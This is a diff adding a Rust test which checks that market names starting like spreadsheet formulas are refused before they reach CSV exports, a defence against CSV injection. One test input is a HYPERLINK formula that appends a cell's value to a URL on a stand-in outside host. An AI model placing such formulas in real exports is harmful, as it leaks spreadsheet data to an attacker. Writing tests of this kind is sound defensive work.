@@ -690,6 +690,31 @@ fn fees_and_custom_rates_have_limits() {
     );
 }
 
+/// Market names end up in CSV exports, where a name starting like a formula would run in the
+/// spreadsheet that opens the file: every place a market is named refuses one.
+#[test]
+fn market_names_that_start_like_a_formula_are_refused() {
+    let errors = Scenario::from_json(
+        r#"{"month":"2026-10","lines":[{"market":" =1+1","marketing":5},{"market":"Rest of Africa"}],
+            "custom_rates":[{"market":"=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")","category":"utility","rate":"0.01"},
+                            {"market":"+Atlantis","category":"marketing","rate":"0.02"}],
+            "custom_tiers":[{"market":"@India","category":"utility","bands":[{"to":null,"rate":"0.001"}]},
+                            {"market":"-5","category":"utility","bands":[{"to":null,"rate":"0.001"}]}]}"#,
+    )
+    .unwrap_err()
+    .lines();
+    assert_eq!(
+        errors,
+        vec![
+            r#"lines[0].market: must not begin with "=" (a spreadsheet would read it as a formula), got " =1+1""#,
+            r#"custom_rates[0].market: must not begin with "=" (a spreadsheet would read it as a formula), got "=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")""#,
+            r#"custom_rates[1].market: must not begin with "+" (a spreadsheet would read it as a formula), got "+Atlantis""#,
+            r#"custom_tiers[0].market: must not begin with "@" (a spreadsheet would read it as a formula), got "@India""#,
+            r#"custom_tiers[1].market: must not begin with "-" (a spreadsheet would read it as a formula), got "-5""#,
+        ]
+    );
+}
+
 /// Rules of one era on a card of another (2022 rules on the 2026 card, which prices by
 /// category, not by initiator): one error per missing category names the cards that have it,
 /// rather than one identical error per line.
